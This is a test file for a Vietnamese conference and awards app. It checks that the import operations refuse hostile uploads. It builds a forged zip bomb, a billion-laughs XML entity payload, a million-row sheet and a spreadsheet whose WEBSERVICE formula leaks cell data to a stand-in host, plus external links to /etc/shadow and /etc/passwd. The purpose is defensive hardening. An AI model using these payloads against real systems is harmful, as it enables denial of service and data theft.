// Hostile files against the real import operations — the delegates' import (import:preview /
// import:commit) and the award recipients' import (award:importPreview / award:importCommit) — on both
// hosts: in-process (the Electron path) and the built browser host (out/main/serve.js over HTTP). Each
// is refused within 3 s, with a Vietnamese message naming the problem, without the host's memory
// growing by 200 MB, and (in process) without the main thread stalling: the one import pipeline reads
// files in a worker thread after its size, zip-bomb, entity and row checks.
import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { Document, Packer, Paragraph, TextRun } from 'docx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uploadedFile } from '../../shared/api/files';
import { looksVietnamese } from '../helpers/fuzz';
import { openTempApp, SAMPLE_COMMITTEE, type TempApp } from '../helpers/temp-db';
import { apiCall, startServe, type ServedApp } from '../helpers/serve-process';

/** A minimal zip writer, so tests can forge the sizes a zip declares. */
function zip(entries: Array<{ name: string; data: Buffer; declaredSize?: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const packed = deflateRawSync(e.data);
    const size = e.declaredSize ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>';
const RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const WORKBOOK =
  '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="DS" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WORKBOOK_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>';

/** A complete xlsx around one worksheet's XML. */
function xlsxWithSheet(sheetXml: string | Buffer, declaredSize?: number): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(RELS) },
    { name: 'xl/workbook.xml', data: Buffer.from(WORKBOOK) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(WORKBOOK_RELS) },
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.isBuffer(sheetXml) ? sheetXml : Buffer.from(sheetXml), declaredSize },
  ]);
}

const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

function billionLaughs(): Buffer {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
  const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>${SHEET_HEAD.replace('<?xml version="1.0" encoding="UTF-8"?>', '')}<row r="1">${inline('A1', 'Họ và tên')}</row><row r="2">${inline('A2', '&lol9;')}</row>${SHEET_TAIL}`;
  return xlsxWithSheet(xml);
}

function millionRows(): Buffer {
  const parts: string[] = [SHEET_HEAD, `<row r="1">${inline('A1', 'Họ và tên')}</row>`];
  for (let r = 2; r <= 1_000_000; r++) parts.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c></row>`);
  parts.push(SHEET_TAIL);
  return xlsxWithSheet(Buffer.from(parts.join('')));
}

interface Host {
  name: string;
  call(op: string, input: unknown): Promise<{ ok: boolean; value?: any; error?: { code: string; message: string } }>;
  /** Resident memory of the process that runs the host, in bytes. */
  rss(): number;
  decisionId: number;
  close(): Promise<void>;
}

async function setUp(call: Host['call']): Promise<number> {
  const committee = (await call('committee:create', SAMPLE_COMMITTEE)).value;
  const conf = (
    await call('conference:create', {
      committeeId: committee.id,
      kind: 'tong_ket_phat_dong',
      title: 'Hội nghị tổng kết năm 2023',
      startsAt: '2024-01-16T08:00',
      venue: 'Hội trường UBND tỉnh',
    })
  ).value;
  const catalog = (await call('award:catalog', {})).value;
  const decision = (
    await call('award:createDecision', {
      conferenceId: conf.id,
      number: '12/QĐ-UBND',
      decidedOn: '2024-01-05',
      authorityId: catalog.authorities.find((a: { name: string }) => a.name === 'Chủ tịch UBND tỉnh').id,
      formId: catalog.forms.find((f: { name: string }) => f.name === 'Bằng khen').id,
    })
  ).value;
  return decision.decision.id;
}

const procRss = (pid: number) => {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return m ? Number(m[1]) * 1024 : 0;
};

let local: TempApp;
let served: ServedApp;
const hosts: Host[] = [];

beforeAll(async () => {
  local = await openTempApp({ now: () => new Date('2024-01-10T08:00:00Z') });
  served = await startServe();
  const localCall: Host['call'] = (op, input) => local.call(op as never, input as never) as never;
  const servedCall: Host['call'] = async (op, input) => (await apiCall(served, op, input)).body;
  hosts.push({
    name: 'trong tiến trình (Electron)',
    call: localCall,
    rss: () => process.memoryUsage().rss,
    decisionId: await setUp(localCall),
    close: async () => local.close(),
  });
  hosts.push({
    name: 'máy chủ trình duyệt',
    call: servedCall,
    rss: () => procRss(served.pid),
    decisionId: await setUp(servedCall),
    close: () => served.stop(),
  });
}, 60_000);
afterAll(async () => {
  for (const h of hosts) await h.close();
});

/** Calls the operation while watching the host's memory and (in process) the main thread's stalls. */
async function watched(host: Host, op: string, input: unknown) {
  const base = host.rss();
  let peak = base;
  let last = performance.now();
  let stall = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    stall = Math.max(stall, now - last);
    last = now;
    peak = Math.max(peak, host.rss());
  }, 10);
  const started = performance.now();
  const result = await host.call(op, input);
  const ms = performance.now() - started;
  clearInterval(timer);
  peak = Math.max(peak, host.rss());
  return { result, ms, grewMb: (peak - base) / 1024 / 1024, stall };
}

const HOSTILE: Array<[string, () => Buffer | Promise<Buffer>, string, RegExp]> = [
  ['zip bomb (150 MB of zeros, honest sizes)', () => xlsxWithSheet(Buffer.alloc(150 * 1024 * 1024, 0x3c)), 'ds.xlsx', /giải nén ra quá lớn/],
  ['zip bomb that lies about its size', () => xlsxWithSheet(Buffer.alloc(90 * 1024 * 1024, 0x3c), 1000), 'ds.xlsx', /giải nén ra quá lớn/],
  ['billion laughs', billionLaughs, 'ds.xlsx', /khai báo thực thể XML/],
  ['1,000,000-row sheet', millionRows, 'ds.xlsx', /quá nhiều dòng \(tối đa 20\.000 dòng\)/],
  ['text file renamed .xlsx', () => Buffer.from('Họ và tên\tChức vụ\nNguyễn Văn An\tTrưởng Công an xã\n'), 'danh-sach.xlsx', /không phải bảng tính Excel/],
  ['PDF renamed .xlsx', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj<<>>endobj\n'), 'danh-sach.xlsx', /không phải bảng tính Excel/],
  ['empty file', () => Buffer.alloc(0), 'danh-sach.xlsx', /Tệp trống/],
];

describe('hostile files through the import operations, on both hosts', () => {
  for (const [label, make, fileName, pattern] of HOSTILE) {
    it(`${label}: refused by import:preview, import:commit, award:importPreview and award:importCommit within 3 s`, async () => {
      const bytes = await make();
      expect(bytes.length).toBeLessThan(20 * 1024 * 1024);
      const file = { fileName, dataBase64: bytes.toString('base64') };
      for (const host of hosts) {
        for (const [op, input] of [
          ['import:preview', { file }],
          ['import:commit', { file }],
          ['award:importPreview', { decisionId: host.decisionId, file }],
          ['award:importCommit', { decisionId: host.decisionId, file }],
        ] as const) {
          const { result, ms, grewMb, stall } = await watched(host, op, input);
          console.log(
            `[hostile] ${label} · ${op} · ${host.name}: ${Math.round(ms)} ms, +${Math.round(grewMb)} MB, khựng ${Math.round(stall)} ms — ${result.error?.message}`,
          );
          expect(result.ok).toBe(false);
          expect(result.error!.code).toBe('VALIDATION');
          expect(result.error!.message).toMatch(pattern);
          expect(looksVietnamese(result.error!.message)).toBe(true);
          expect(ms).toBeLessThan(3_000);
          expect(grewMb).toBeLessThan(200);
          if (host === hosts[0]) expect(stall).toBeLessThan(500);
        }
      }
      expect((await hosts[0]!.call('person:list', {})).value.total).toBe(0);
    }, 120_000);
  }

  it('a .txt that is not CSV-shaped text, and an .exe, are refused with the types the import takes', async () => {
    for (const host of hosts) {
      const exe = await host.call('import:preview', { file: { fileName: 'danh-sach.exe', dataBase64: Buffer.from('MZ\u0090\u0000').toString('base64') } });
      expect(exe.error?.message).toMatch(/Chỉ nhận tệp Excel \(\.xlsx\) hoặc CSV/);
      const txt = await host.call('award:importPreview', {
        decisionId: host.decisionId,
        file: { fileName: 'danh-sach.txt', dataBase64: Buffer.from('Họ và tên\nAn\n').toString('base64') },
      });
      expect(txt.error?.message).toMatch(/Chỉ nhận tệp Excel dạng \.xlsx/);
      const zipAsCsv = await host.call('import:preview', {
        file: { fileName: 'danh-sach.csv', dataBase64: xlsxWithSheet(SHEET_HEAD + SHEET_TAIL).toString('base64') },
      });
      expect(zipAsCsv.error?.message).toMatch(/không phải tệp văn bản CSV/);
    }
  });

  it('a 50 MB CSV is refused by size at the API boundary of both hosts, without being parsed', async () => {
    const line = 'Nguyễn Văn An,Trưởng Công an xã,Xã Hải Hậu,0912345678\n';
    const big = Buffer.from(line.repeat(Math.ceil((50 * 1024 * 1024) / Buffer.byteLength(line))));
    const schema = uploadedFile.safeParse({ fileName: 'dai-bieu.csv', dataBase64: big.toString('base64') });
    expect(schema.success).toBe(false);
    const r = await hosts[0]!.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: big.toString('base64') } });
    expect(r.error?.message).toMatch(/Tệp quá lớn/);
    // The browser host answers 413 as soon as the declared length is over its limit (and may close the
    // connection before the client has finished sending, which fetch reports as a network error).
    const http = await apiCall(served, 'import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: big.toString('base64') } }).catch(() => null);
    if (http) expect(http.body.error.message).toMatch(/quá lớn/);
    // Just under the schema's limit but over 20 MB of bytes: refused by the pipeline before a worker starts.
    const over = Buffer.alloc(21 * 1024 * 1024, 0x41).toString('base64');
    for (const host of hosts)
      expect((await host.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: over } })).error?.message).toMatch(
        /Tệp quá lớn \(tối đa 20 MB\)/,
      );
  }, 60_000);

  it('a CSV that is not UTF-8 gets a message telling how to save it from Excel', async () => {
    for (const host of hosts)
      for (const bytes of [Buffer.from([0x48, 0xe0, 0x20, 0x4e, 0xe9, 0x69, 0x0a]), Buffer.from([0x41, 0xed, 0xa0, 0x80, 0x0a])]) {
        const r = await host.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: bytes.toString('base64') } });
        expect(r.error?.message).toMatch(/CSV UTF-8/);
      }
  });

  it('an xlsx with formulas and external links: cached values only, nothing evaluated or followed', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Đại biểu');
    ws.addRow(['Họ và tên', 'Chức vụ', 'Ghi chú']);
    ws.addRow([
      'Nguyễn Văn An',
      { formula: "'[mat-khau.xlsx]Sheet1'!A1", result: 'Trưởng Công an xã' },
      { text: 'Bấm vào đây', hyperlink: 'file:///etc/passwd' },
    ]);
    ws.addRow([{ formula: 'WEBSERVICE("http://example.invalid/?leak="&A2)', result: 'Trần Thị Bình' }, '', '']);
    const base = Buffer.from(await wb.xlsx.writeBuffer());
    const zipped = await JSZip.loadAsync(base);
    zipped.file(
      'xl/externalLinks/externalLink1.xml',
      '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>',
    );
    zipped.file(
      'xl/externalLinks/_rels/externalLink1.xml.rels',
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/shadow" TargetMode="External"/></Relationships>',
    );
    const bytes = await zipped.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    for (const host of hosts) {
      const p = await host.call('import:preview', { file: { fileName: 'dai-bieu.xlsx', dataBase64: bytes.toString('base64') } });
      expect(p.ok).toBe(true);
      expect(p.value.rows.map((r: { fullName: string; position: string }) => [r.fullName, r.position])).toEqual([
        ['Nguyễn Văn An', 'Trưởng Công an xã'],
        ['Trần Thị Bình', ''],
      ]);
      expect(JSON.stringify(p.value)).not.toMatch(/root:/);
    }
  });

  it('NUL and control characters in imported text never reach the XML of a generated document', async () => {
    const hostile = 'Nguy\u0000ễn V\u0001ăn\u000B A\u001Fn\u007F\u0085\uFFFE';
    const csv = Buffer.from(`\uFEFFHọ và tên;Ghi chú\n"${hostile}";"dòng 1\u0007\ndòng 2"\n`);
    const NOT_XML_CHAR = (text: string) =>
      [...text].some((ch) => {
        const c = ch.codePointAt(0)!;
        return (c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) || c === 0xfffe || c === 0xffff || (c >= 0xd800 && c <= 0xdfff);
      });
    for (const host of hosts) {
      const p = await host.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: csv.toString('base64') } });
      expect(p.value.rows[0].fullName).toBe('Nguyễn Văn An');
      const escaped = new ExcelJS.Workbook();
      escaped.addWorksheet('A').addRow(['Họ và tên']).commit();
      escaped.getWorksheet('A')!.addRow(['Nguy_x0000_ễn V_x0001_ăn_x000B_ A_x001F_n']);
      const x = await host.call('import:preview', {
        file: { fileName: 'a.xlsx', dataBase64: Buffer.from(await escaped.xlsx.writeBuffer()).toString('base64') },
      });
      expect(NOT_XML_CHAR(x.value.rows[0].fullName)).toBe(false);
      const raw = new ExcelJS.Workbook();
      raw.addWorksheet('A').addRow([hostile]);
      const r = await host.call('import:preview', { file: { fileName: 'a.xlsx', dataBase64: Buffer.from(await raw.xlsx.writeBuffer()).toString('base64') } });
      expect(r.error?.message).toMatch(/không phải bảng tính Excel/);
    }
    const docXml = async (text: string) => {
      const buffer = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph({ children: [new TextRun(text)] })] }] }));
      return (await JSZip.loadAsync(buffer)).file('word/document.xml')!.async('string');
    };
    expect(NOT_XML_CHAR(await docXml(hostile))).toBe(true); // the hazard is real
    expect(NOT_XML_CHAR(await docXml('Nguyễn Văn An'))).toBe(false);
  });

  it('a preview lists at most 200 problems and counts the rest', async () => {
    const lines = ['Họ và tên,Email', ...Array.from({ length: 500 }, () => 'Nguyễn Văn An,khong-phai-email')];
    for (const host of hosts) {
      const p = await host.call('import:preview', { file: { fileName: 'a.csv', dataBase64: Buffer.from(lines.join('\n')).toString('base64') } });
      expect(p.value.invalidCount).toBe(500);
      expect(p.value.problems).toHaveLength(201);
      expect(p.value.problems[200].message).toMatch(/Còn 300 lỗi khác/);
    }
  });
});
